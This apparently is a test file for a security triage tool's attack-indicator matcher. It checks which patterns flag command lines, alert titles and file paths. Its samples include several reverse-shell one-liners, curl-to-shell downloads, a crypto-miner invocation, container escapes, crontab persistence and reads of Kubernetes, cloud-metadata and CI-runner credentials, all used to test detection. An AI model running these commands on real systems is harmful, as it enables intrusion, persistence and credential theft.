import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { ATTACK_INDICATORS, type IndicatorField } from '../../../src/knowledge/indicators.js';
import { indicatorsIn } from '../../../src/triage/rules/indicator-match.js';

const FIELDS: IndicatorField[] = ['command', 'path', 'ancestry', 'file', 'network', 'title'];

/** The patterns themselves, on the text with its line breaks read as command separators (as indicatorsIn does). */
function direct(field: IndicatorField, text: string) {
  const oneLine = text.replace(/\s*[\r\n]+\s*/g, '; ');
  return ATTACK_INDICATORS.filter((i) => i.fields.includes(field) && i.pattern.test(oneLine));
}

const SAMPLES = [
  'sh -c "curl -fsSL http://203.0.113.7/x.sh | sh"',
  'bash -i >& /dev/tcp/198.51.100.4/4444 0>&1',
  '/tmp/.x/xmrig --donate-level 1 -o stratum+tcp://pool.example:3333',
  'nsenter -t 1 -m -u -i -n -p -- bash',
  'chroot /host bash',
  'cat /var/run/secrets/kubernetes.io/serviceaccount/token',
  'curl http://169.254.169.254/latest/meta-data/iam/security-credentials/node-role',
  'kubectl auth can-i --list',
  'iptables-restore -w 10 -W 100000 --noflush --counters',
  'echo "* * * * * root /tmp/x" >> /etc/crontab',
  'Suspicious firewall rule modification',
  'Possible reverse shell detected',
  '/etc/kubernetes/manifests/evil.yaml',
  '',
];

describe('indicatorsIn', () => {
  it('finds exactly the indicators whose own pattern matches, per field, asked once or many times', () => {
    for (let round = 0; round < 2; round++) {
      for (const field of FIELDS) for (const text of SAMPLES) expect(indicatorsIn(field, text)).toEqual(direct(field, text));
    }
  });

  it('agrees with the patterns on mutated samples', () => {
    const text = fc.oneof(
      fc.constantFrom(...SAMPLES),
      fc.tuple(fc.constantFrom(...SAMPLES), fc.string({ maxLength: 12 }), fc.nat(80)).map(([s, insert, at]) => `${s.slice(0, at)}${insert}${s.slice(at)}`),
      fc.string({ maxLength: 80 }),
    );
    fc.assert(
      fc.property(fc.constantFrom(...FIELDS), text, (field, t) => {
        expect(indicatorsIn(field, t)).toEqual(direct(field, t));
      }),
      { numRuns: 3000 },
    );
  });

  it('answers for long texts too (not remembered)', () => {
    const long = `${'a '.repeat(3000)}curl -s http://x/y.sh | bash`;
    expect(indicatorsIn('command', long)).toEqual(direct('command', long));
    expect(indicatorsIn('command', long).length).toBeGreaterThan(0);
  });

  it('reads a multi-line script as one command line, its line breaks separating commands', () => {
    const py = 'python3 -c import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(("203.0.113.45",4444))\nsubprocess.call(["/bin/sh","-i"])';
    expect(indicatorsIn('command', py).map((i) => i.id)).toContain('reverse-shell');
    // trap: a /dev/tcp redirection on the third line of a script is still found
    expect(indicatorsIn('command', 'sh -c \nexec 5<>/dev/tcp/203.0.113.45/4444\ncat <&5 | sh').map((i) => i.id)).toContain('reverse-shell');
    // two harmless commands on separate lines do not join into "nc … -e"
    expect(indicatorsIn('command', 'nc -zv -w 2 db 5432\necho -e done').map((i) => i.id)).not.toContain('reverse-shell');
  });
});

describe('reverse-shell titles', () => {
  const ids = (title: string) => indicatorsIn('title', title).map((i) => i.id);
  it.each(['Possible reverse shell detected', 'Interactive shell spawned by a web server', 'ET ATTACK_RESPONSE Bash interactive shell', 'Bind shell listener', 'Redirect STDOUT/STDIN to Network Connection in Container'])('%s is a network shell', (title) => {
    expect(ids(title)).toContain('reverse-shell-traffic');
  });
  it.each(['Network tool run from an interactive shell', 'Database contents read from an interactive shell', 'Command typed in an interactive shell in a container', 'Redirect STDOUT/STDIN to a file in container'])(
    '%s only says where a command was typed',
    (title) => {
      expect(ids(title)).not.toContain('reverse-shell-traffic');
    },
  );
});

describe('script-from-temp: the Go toolchain work directory', () => {
  const tempRun = ATTACK_INDICATORS.find((i) => i.id === 'script-from-temp')!;
  it('does not flag the test and run binaries go builds under $TMPDIR/go-build<n>/b<n>/', () => {
    expect(tempRun.pattern.test('/tmp/go-build2384756190/b001/api.test -test.paniconexit0 -test.timeout=10m0s')).toBe(false);
    expect(tempRun.pattern.test('/tmp/go-build81/b001/exe/main --port 8080')).toBe(false);
  });
  it('still flags look-alikes: no digits, deeper paths, traversal, other temp files', () => {
    for (const t of ['/tmp/go-build/x', '/tmp/go-build12/b001/sub/x', '/tmp/go-build12/b001/../../.x/miner', '/tmp/go-buildx1/b1/y', '/tmp/kswapd0 -o pool', '/dev/shm/go-build1/b1/x.test/y']) {
      expect(tempRun.pattern.test(t), t).toBe(true);
    }
  });
});

describe('credential indicators for CI farms', () => {
  const byId = (id: string) => ATTACK_INDICATORS.find((i) => i.id === id)!;
  it("other pods' service-account tokens searched for or read under the kubelet's pods directory", () => {
    const sa = byId('service-account-token');
    expect(sa.pattern.test('find /var/lib/kubelet/pods -path *kube-api-access* -name token -exec cat {} +')).toBe(true);
    expect(sa.pattern.test('cat /host/var/lib/kubelet/pods/1f2e/volumes/kubernetes.io~projected/kube-api-access-x7k2p/token')).toBe(true);
    // trap: the kubelet's pods directory for other volumes (a CSI plugin staging a disk)
    expect(sa.pattern.test('mount /dev/nvme1n1 /var/lib/kubelet/pods/1f2e/volumes/kubernetes.io~csi/pvc-1/mount')).toBe(false);
  });
  it("a generic reader on a CI runner's token files, not the runner or its entrypoint loading them", () => {
    const ci = byId('ci-runner-credentials');
    expect(ci.pattern.test('cat /home/gitlab-runner/.gitlab-runner/config.toml')).toBe(true);
    expect(ci.pattern.test('base64 -w0 /home/runner/.credentials_rsaparams')).toBe(true);
    expect(ci.pattern.test('gitlab-runner --debug list')).toBe(false);
    expect(ci.pattern.test('gitlab-runner run --config /home/gitlab-runner/.gitlab-runner/config.toml')).toBe(false);
    expect(ci.pattern.test('/home/runner/bin/Runner.Listener run --startuptype service')).toBe(false);
  });
});
